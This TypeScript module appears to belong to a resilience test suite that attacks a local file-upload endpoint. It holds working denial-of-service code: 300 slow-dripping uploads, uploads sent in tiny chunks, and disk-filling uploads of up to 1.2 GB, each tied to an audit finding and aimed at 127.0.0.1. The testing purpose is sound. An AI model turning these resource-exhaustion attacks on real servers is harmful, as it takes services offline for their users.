/** Uploads that do not end, and uploads without end. */
import { ATTACKER_FROM, type Attack } from "../attack.ts";
import { longWav } from "../bombs.ts";
import { exchange, open } from "../wire.ts";

/** What the disk of whoever measures has to bear. */
const FILL_BYTES_MAX = 1_200_000_000;

export const UPLOADING: readonly Attack[] = [
  {
    name: "dripping-uploads",
    finding: "12",
    what: "300 open uploads of 40 MB, each sending a byte every half second",
    async prepare(attacker) {
      const { port, attacker: account } = attacker.orders;
      const head = `PUT /v1/files HTTP/1.1\r\nhost: 127.0.0.1:${port}\r\nauthorization: Bearer ${account.key}\r\ncontent-length: 40000000\r\n\r\n`;
      return async () => {
        const sockets = Array.from({ length: 300 }, () => {
          const socket = open(port, ATTACKER_FROM);
          socket.on("data", (piece) => attacker.count(Number(/^HTTP\/1\.1 (\d{3})/u.exec(String(piece))?.[1] ?? 0)));
          socket.write(head);
          return socket;
        });
        while (!attacker.isOver) {
          for (const socket of sockets) if (socket.writable) socket.write("R");
          await attacker.pause(500);
        }
        const left = sockets.filter(({ destroyed, readableEnded }) => !destroyed && !readableEnded).length;
        attacker.notes.push(`${left} of 300 open at the end`);
        for (const socket of sockets) socket.destroy();
      };
    },
  },
  chunkedUploads("uploads-in-crumbs", 17),
  // The smallest that nobody refuses or holds up.
  chunkedUploads("uploads-in-chunks", 256),
  {
    name: "filling-uploads",
    finding: "12",
    what: "uploads of ten minutes in 28.8 MB, 4 at a time, up to 1.2 GB",
    async prepare(attacker) {
      const bytes = longWav(600, 0, 48_000);
      let sent = 0;
      let taken = 0;
      return async () => {
        await attacker.inParallel(4, async () => {
          if (sent >= FILL_BYTES_MAX) return attacker.pause(100);
          sent += bytes.length;
          if ((await attacker.upload(bytes)) !== undefined) taken += bytes.length;
          return undefined;
        });
        attacker.notes.push(`${Math.round(taken / 1e6)} MB taken`);
      };
    },
  },
];

function chunkedUploads(name: string, chunk_bytes: number): Attack {
  return {
    name,
    finding: "own",
    what: `uploads in chunks of ${chunk_bytes} bytes, 2 MB each, 8 at a time`,
    async prepare(attacker) {
      const { port, attacker: account } = attacker.orders;
      const head = `PUT /v1/files HTTP/1.1\r\nhost: 127.0.0.1:${port}\r\nauthorization: Bearer ${account.key}\r\nconnection: close\r\ntransfer-encoding: chunked\r\n\r\n`;
      const chunk = `${chunk_bytes.toString(16)}\r\n${"R".repeat(chunk_bytes)}\r\n`;
      const bytes = Buffer.from(`${head}${chunk.repeat(2_000_000 / chunk_bytes)}0\r\n\r\n`);
      const ask = { port, from: ATTACKER_FROM, ms_max: 30_000 };
      return () =>
        attacker.inParallel(8, async () => {
          attacker.count((await exchange({ ...ask, signal: attacker.over }, bytes)).status);
        });
    },
  };
}
